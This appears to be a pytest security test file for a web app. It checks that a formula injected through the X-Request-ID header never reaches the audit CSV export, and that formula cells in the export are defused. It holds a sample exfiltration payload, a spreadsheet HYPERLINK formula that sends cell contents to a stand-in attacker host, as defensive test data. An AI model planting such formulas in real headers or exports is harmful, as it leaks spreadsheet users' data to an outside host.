"""Security test finding: a formula planted through X-Request-ID reached the audit CSV export as is.
One request-id rule (generate, or accept [A-Za-z0-9-]{1,64}) and one CSV writer that defuses formula cells."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from app.access import Role
from app.audit.models import AuditEvent
from app.extensions import db
from tests.helpers import login

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def test_a_hostile_request_id_is_replaced_and_never_exported(app, login_as, make_user):
    make_user("victim", Role.QA)
    attacker = app.test_client()
    attacker.post(
        "/login", data={"username": "victim", "password": "wrong"}, headers={"X-Request-ID": HOSTILE})
    ids = list(db.session.scalars(select(AuditEvent.request_id).where(AuditEvent.ip != "")))
    assert ids and HOSTILE not in ids and all(0 < len(value) <= 64 for value in ids)
    client = login_as(Role.AUDITOR)
    response = client.get("/audit/export.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    body = response.get_data(as_text=True)
    assert "evil.example" not in body
    assert not [cell for cell in _cells(body) if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("value", ["abc-123", "A" * 64])
def test_a_well_formed_request_id_is_kept(client, value):
    assert client.get("/login", headers={"X-Request-ID": value}).headers["X-Request-ID"] == value


@pytest.mark.parametrize("value", ["", "A" * 65, "a b", "x;y", "=1+1", "id\x00"])
def test_a_malformed_request_id_is_replaced(client, value):
    answered = client.get("/login", headers={"X-Request-ID": value}).headers["X-Request-ID"]
    assert answered != value and 0 < len(answered) <= 64


def test_formula_text_stored_in_the_trail_is_defused_in_the_csv(app, make_user):
    make_user("formula", Role.AUDITOR, full_name="=1+2")
    client = app.test_client()
    login(client, "formula")
    cells = _cells(client.get("/audit/export.csv").get_data(as_text=True))
    assert any(cell.startswith("'=1+2") for cell in cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
